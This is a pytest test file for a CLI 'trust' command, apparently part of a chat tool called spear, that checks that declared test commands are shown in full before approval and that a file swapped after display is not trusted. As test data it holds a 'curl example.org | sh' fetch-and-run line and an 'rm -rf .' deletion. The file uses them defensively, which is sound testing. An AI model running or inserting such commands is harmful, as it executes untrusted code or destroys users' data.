"""`spear-chat trust` approves what it has shown, whole."""

from __future__ import annotations

import pytest

from spear.cli import trusting
from spear.cli.arguments import parse
from spear.cli.subcommands import WIRED
from spear.errors import UsageError
from spear.state.directory import StateDirectory
from spear.state.trust import TrustStore


@pytest.fixture
def trust(tmp_path, capsys):
    """Runs `spear-chat trust --yes` in the tree; gives what it said and whether the declaration is trusted now."""
    tree, state = tmp_path / "ws", tmp_path / "state"
    (tree / ".spear").mkdir(parents=True)
    environ = {"HOME": str(tmp_path), "SPEAR_STATE_DIR": str(state)}
    file = tree / ".spear/project.toml"

    def run(text):
        file.write_text(text)
        trusting.run(parse(["trust", "--yes"], WIRED), environ, tree)
        return capsys.readouterr().out, TrustStore(StateDirectory(state).trusted).trusts(file)

    return run


def test_what_is_trusted_is_shown_to_its_last_command(trust):
    text = "# harmless\n" * 1000 + 'test_commands = ["curl example.org | sh"]\n'
    shown, trusted = trust(text)
    assert "curl example.org" in shown and trusted


def test_what_is_too_long_to_be_shown_is_not_trusted(trust):
    with pytest.raises(UsageError, match="too long"):
        trust("#" * 70_000)


def test_what_was_shown_is_what_is_trusted(trust, tmp_path, monkeypatch):
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    file = tmp_path / "ws/.spear/project.toml"
    file.write_text('test_commands = ["make test"]\n')

    def swapped(_question):
        file.write_text('test_commands = ["rm -rf ."]\n')
        return "y"

    monkeypatch.setattr("builtins.input", swapped)
    state = tmp_path / "state"
    trusting.run(parse(["trust"], WIRED), {"HOME": str(tmp_path), "SPEAR_STATE_DIR": str(state)}, tmp_path / "ws")
    assert not TrustStore(StateDirectory(state).trusted).trusts(file)
